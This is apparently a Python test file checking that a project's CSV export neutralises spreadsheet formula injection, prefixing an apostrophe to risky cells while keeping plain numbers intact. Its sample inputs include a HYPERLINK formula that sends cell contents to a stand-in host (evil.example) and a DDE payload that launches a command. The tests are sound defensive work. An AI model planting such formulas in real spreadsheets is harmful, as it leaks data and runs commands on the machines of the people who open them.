"""CSV cells a spreadsheet would run as formulas are neutralised; numbers stay numbers."""
from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from reconciler.credentials import CredentialFile
from reconciler.spreadsheet import cell, csv_text

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_formulas_get_an_apostrophe_and_numbers_do_not():
    assert cell('=HYPERLINK("http://evil.example/?"&A1,"folio")') == '\'=HYPERLINK("http://evil.example/?"&A1,"folio")'
    assert cell("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cell("+52 777 356 9440") == "'+52 777 356 9440"  # not a plain number: a spreadsheet would compute it
    assert cell("\t=1+1") == "'\t=1+1"
    assert cell("-120.50") == "-120.50" and cell("+3") == "+3" and cell(-7) == "-7"
    assert cell("SSM/STI/2025/00007") == "SSM/STI/2025/00007" and cell(None) == "" and cell("Zoé O'Brien") == "Zoé O'Brien"


@given(st.text())
def test_no_cell_reaches_a_spreadsheet_as_a_formula(text):
    shown = cell(text)
    assert shown in (text, "'" + text)
    if shown.startswith(FORMULA_START):
        float(shown)  # only a plain number may start that way


@given(st.lists(st.lists(st.text(), min_size=3, max_size=3), max_size=5))
def test_the_csv_reads_back_as_the_cells_it_was_given(rows):
    read = list(csv.reader(io.StringIO(csv_text(["a", "b", "c"], rows), newline="")))
    assert read == [["a", "b", "c"], *[[cell(v) for v in r] for r in rows]]


def test_a_hostile_folio_is_data_in_the_credentials_file(tmp_path):
    file = CredentialFile(tmp_path / "credentials", "ad-run")
    file.record("jnunezo", "jnunezo@salud.lab", "SSM-000001", '=HYPERLINK("http://x.example","ver")', "Secreto-1")
    rows = list(csv.reader(file.path.open(encoding="utf-8", newline="")))
    assert rows[1][3] == '\'=HYPERLINK("http://x.example","ver")'
